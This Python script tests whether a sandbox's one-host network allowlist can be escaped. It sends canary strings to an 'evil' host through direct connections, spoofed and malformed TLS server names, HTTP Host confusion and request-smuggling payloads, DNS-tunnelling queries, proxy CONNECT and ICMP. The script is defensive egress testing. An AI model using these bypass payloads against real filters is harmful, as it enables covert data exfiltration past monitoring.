# SPDX-License-Identifier: Apache-2.0
"""Ways out of a sandbox that may reach one name only: network_attempts.py ALLOWED_NAME EVIL_NAME EVIL_ADDRESS
GATEWAY. Each attempt tries to get a word
of its own ("canary" and its number) to the evil host, or into a query for its names; what comes of it is seen
outside. Prints "NUMBER NAME OUTCOME"."""

import socket
import ssl
import struct
import sys

good, evil, address, gateway = sys.argv[1:5]
attempts = []


def attempt(name, fn):
    attempts.append((name, fn))


def canary(n):
    return b"canary%04dx" % n


def tcp(host, port, data, again=None):
    with socket.create_connection((host, port), 3) as s:
        s.settimeout(2)
        s.sendall(data)
        got = s.recv(65536)
        if again and got:
            s.sendall(again)
            s.recv(65536)
        return got


def hello(name, patch=None, alpn=None):
    out = ssl.MemoryBIO()
    c = ssl.create_default_context()
    c.check_hostname = False
    if alpn:
        c.set_alpn_protocols(alpn)
    t = c.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    data = out.read()
    return patch(data) if patch else data


def records(body, size):
    return b"".join(
        b"\x16\x03\x01" + len(body[i : i + size]).to_bytes(2, "big") + body[i : i + size]
        for i in range(0, len(body), size)
    )


def with_extensions(names, more=b"", types=None):
    """A hello with a list of server names of our own making."""
    entries = b"".join(
        bytes([(types or [0] * len(names))[i]]) + len(n).to_bytes(2, "big") + n for i, n in enumerate(names)
    )
    sni = len(entries).to_bytes(2, "big") + entries
    exts = b"\0\0" + len(sni).to_bytes(2, "big") + sni + more
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\x01" + b"\1\0" + len(exts).to_bytes(2, "big") + exts
    return b"\x16\x03\x01" + (len(body) + 4).to_bytes(2, "big") + b"\1" + len(body).to_bytes(3, "big") + body


def ext(kind, data):
    return kind.to_bytes(2, "big") + len(data).to_bytes(2, "big") + data


def sni_ext(name):
    return ext(0, (len(name) + 3).to_bytes(2, "big") + b"\0" + len(name).to_bytes(2, "big") + name)


g, e, a = good.encode(), evil.encode(), address.encode()
CAN = b"@CANARY@"


def request(host, more=b"", target=b"/" + CAN, version=b"HTTP/1.1", method=b"GET"):
    return method + b" " + target + b" " + version + b"\r\nHost: " + host + b"\r\n" + more + b"\r\n"


# --- straight to the address, on every port ---
for port in (7, 22, 25, 53, 80, 443, 853, 7000, 8080, 8443):
    attempt(f"address-tcp-{port}", lambda c, port=port: tcp(address, port, c))
    attempt(f"address-tls-{port}", lambda c, port=port: tcp(address, port, hello(evil)))

# --- TLS: what the server name says, and how ---
HELLOS = {
    "evil": hello(evil),
    "none": hello(None),
    "upper-case": hello(evil.upper()),
    "trailing-dot": hello(evil + "."),
    "cut-into-records": records(hello(evil)[5:], 7),
    "single-bytes": records(hello(evil)[5:], 1),
    "two-hellos": hello(good, lambda d: d + hello(evil)),
    "an-address": with_extensions([a]),
    "patched": hello(good, lambda d: d.replace(g, e[: len(g)].ljust(len(g), b"a"))),
    "two-names": with_extensions([g, e]),
    "two-names-other-way": with_extensions([e, g]),
    "two-extensions": with_extensions([g], sni_ext(e)),
    "two-extensions-other-way": with_extensions([e], sni_ext(g)),
    "nul-in-name": with_extensions([g + b"\0." + e]),
    "name-of-other-kind": with_extensions([g, e], types=[0, 1]),
    "only-other-kind": with_extensions([e], types=[1]),
    "empty-name": with_extensions([b""]),
    "long-name": with_extensions([b"a" * 300 + b"." + e]),
    "blank-before": with_extensions([b" " + g]),
    "at-sign": with_extensions([g + b"@" + e]),
    "escaped": with_extensions([e.replace(b".", b"%2e")]),
    "wide-dots": with_extensions([e.replace(b".", "\u3002".encode())]),
    "subdomain-of-evil": with_extensions([g + b"." + e]),
    "evil-prefix": with_extensions([e + b"." + g]),
    "ech-inner-unknown": with_extensions([e], ext(0xFE0D, bytes(80))),
    "ech-without-name": with_extensions([b""], ext(0xFE0D, bytes(80))),
    "short-extension": hello(evil)[:60],
    "ssl2": b"\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10" + bytes(37),
    "quic-in-tcp": b"\xc0\0\0\0\1\x08" + bytes(60),
}
for name, data in HELLOS.items():
    attempt(f"sni-{name}-to-address", lambda c, data=data: tcp(address, 443, data + c))
    attempt(f"sni-{name}-to-name", lambda c, data=data: tcp(evil, 443, data + c))
    if name not in ("evil",):
        attempt(f"sni-{name}-to-allowed", lambda c, data=data: tcp(good, 443, data + c))

# --- HTTP: who reads what as the host ---
HEADS = {
    "evil": request(e),
    "an-address": request(a),
    "two-hosts": request(g, b"Host: " + e + b"\r\n"),
    "two-hosts-other-way": request(e, b"Host: " + g + b"\r\n"),
    "with-port": request(e + b":80"),
    "trailing-dot": request(e + b"."),
    "upper-case": request(e.upper()),
    "absolute-form": request(g, target=b"http://" + e + b"/" + CAN),
    "absolute-form-other-way": request(e, target=b"http://" + g + b"/" + CAN),
    "absolute-form-user": request(g, target=b"http://" + g + b"@" + e + b"/" + CAN),
    "at-sign": request(g + b"@" + e),
    "hash": request(g + b"#" + e),
    "comma": request(g + b"," + e),
    "connect": b"CONNECT " + e + b":443 HTTP/1.1\r\nHost: " + e + b"\r\n\r\n",
    "connect-as-allowed": b"CONNECT " + e + b":443 HTTP/1.1\r\nHost: " + g + b"\r\n\r\n",
    "version-1.0": b"GET /" + CAN + b" HTTP/1.0\r\n\r\n",
    "version-0.9": b"GET /" + CAN + b"\r\n",
    "http2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + CAN,
    "folded": request(g, b"\tHost: " + e + b"\r\n"),
    "folded-host": b"GET /" + CAN + b" HTTP/1.1\r\nHost: " + g + b"\r\n ." + e + b"\r\n\r\n",
    "blank-before-colon": b"GET /" + CAN + b" HTTP/1.1\r\nHost : " + e + b"\r\nHost: " + g + b"\r\n\r\n",
    "bare-newlines": b"GET /" + CAN + b" HTTP/1.1\nHost: " + e + b"\n\n",
    "bare-return": b"GET /" + CAN + b" HTTP/1.1\r\nX: y\rHost: " + e + b"\r\nHost: " + g + b"\r\n\r\n",
    "nul": request(g + b"\0" + e),
    "no-host": b"GET /" + CAN + b" HTTP/1.1\r\nX: y\r\n\r\n",
    "empty-host": request(b""),
    "forwarded-host": request(g, b"X-Forwarded-Host: " + e + b"\r\nForwarded: host=" + e + b"\r\n"),
    "first-line-empty": b"\r\n\r\n" + request(e),
    "body-with-request": request(g, b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n") + request(e),
    "two-lengths": request(g, b"Content-Length: 5\r\nContent-Length: 6\r\n") + request(e),
    "negative-length": request(g, b"Content-Length: -1\r\n") + request(e),
    "length-with-plus": request(g, b"Content-Length: +0\r\n") + request(e),
    "encoding-x": request(g, b"Transfer-Encoding: xchunked\r\n") + request(e),
    "encoding-twice": request(g, b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", method=b"POST")
    + b"0\r\n\r\n"
    + request(e),
    "chunk-size-large": request(g, b"Transfer-Encoding: chunked\r\n", method=b"POST")
    + b"fffffffffffffff0\r\n"
    + request(e),
    "chunk-extension": request(g, b"Transfer-Encoding: chunked\r\n", method=b"POST") + b"0;\nx\r\n\r\n" + request(e),
    "chunk-trailer-host": request(g, b"Transfer-Encoding: chunked\r\n", method=b"POST")
    + b"0\r\nHost: "
    + e
    + b"\r\n\r\n",
    "chunk-bad-end": request(g, b"Transfer-Encoding: chunked\r\n", method=b"POST")
    + b"1\r\nZZZ\r\n0\r\n\r\n"
    + request(e),
    "tls-on-80": hello(evil),
}
for name, data in HEADS.items():
    attempt(f"http-{name}-to-address", lambda c, data=data: tcp(address, 80, data.replace(CAN, c)))
    attempt(f"http-{name}-to-allowed", lambda c, data=data: tcp(good, 80, data.replace(CAN, c)))
for name, first in {
    "kept": request(g, target=b"/ok"),
    "refused-upgrade": request(g, b"Connection: Upgrade\r\nUpgrade: websocket\r\n", b"/refuse"),
    "h2c": request(g, b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n", b"/ok"),
}.items():
    attempt(f"http-second-request-{name}", lambda c, first=first: tcp(good, 80, first, request(e).replace(CAN, c)))
    attempt(f"http-pipelined-{name}", lambda c, first=first: tcp(good, 80, first + request(e).replace(CAN, c)))


# --- UDP and names ---
def udp(host, port, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect((host, port))
    s.send(data)
    return s.recv(2000)


def query(name, kind=1, flags=0x0100, count=1, more=b""):
    wire = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return (
        struct.pack(">HHHHHH", 0x1234, flags, count, 0, 0, 1 if more else 0)
        + (wire + struct.pack(">HH", kind, 1)) * count
        + more
    )


for port in (7, 53, 123, 443, 500, 853, 3478, 51820):
    attempt(f"udp-{port}", lambda c, port=port: udp(address, port, query(c.decode() + "." + evil)))
QUERIES = {
    f"type-{k}": (lambda s, k=k: query(s, k))
    for k in (1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 43, 64, 65, 251, 252, 255, 257)
}
QUERIES |= {
    "upper-case": lambda s: query(s.upper()),
    "allowed-before": lambda s: query(good + "." + s),
    "two-questions": lambda s: query(s, count=2),
    "opcode-update": lambda s: query(s, flags=0x2900),
    "below-allowed": lambda s: query(s.split(".")[0] + "." + good),
    "option": lambda s: query(good, more=b"\0\0\x29\x04\xd0\0\0\0\0\0\x0f\xff\xfe\0\x0b" + s.split(".")[0].encode()),
    "client-subnet": lambda s: query(good, more=b"\0\0\x29\x04\xd0\0\0\0\0\0\x0b\0\x08\0\x07\0\1\x18\0\1\2\3"),
    "no-recursion": lambda s: query(s, flags=0),
}
for name, make in QUERIES.items():
    attempt(f"dns-{name}-udp", lambda c, make=make: udp(gateway, 53, make(c.decode() + "." + evil)))
    attempt(
        f"dns-{name}-tcp",
        lambda c, make=make: tcp(
            gateway, 53, len(make(c.decode() + "." + evil)).to_bytes(2, "big") + make(c.decode() + "." + evil)
        ),
    )
for port in (54, 80, 443, 1080, 3128, 8080):
    attempt(
        f"proxy-connect-{port}",
        lambda c, port=port: tcp(gateway, port, b"CONNECT " + e + b":443 HTTP/1.1\r\nHost: " + e + b"\r\n\r\n"),
    )
    attempt(f"proxy-socks-{port}", lambda c, port=port: tcp(gateway, port, b"\5\1\0"))
attempt("resolve-by-libc", lambda c: socket.getaddrinfo(c.decode() + "." + evil, 443))
attempt("ping", lambda c: ping(c))


def ping(c):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)
    s.settimeout(1)
    s.sendto(b"\x08\0\0\0\0\0\0\1" + c, (address, 0))
    return s.recv(100)


for n, (name, fn) in enumerate(attempts):
    try:
        got = fn(canary(n))
        outcome = f"answer-{len(got)}" if isinstance(got, bytes) else "answer"
    except (OSError, ValueError, EOFError) as err:
        outcome = type(err).__name__
    print(n, name, outcome, flush=True)
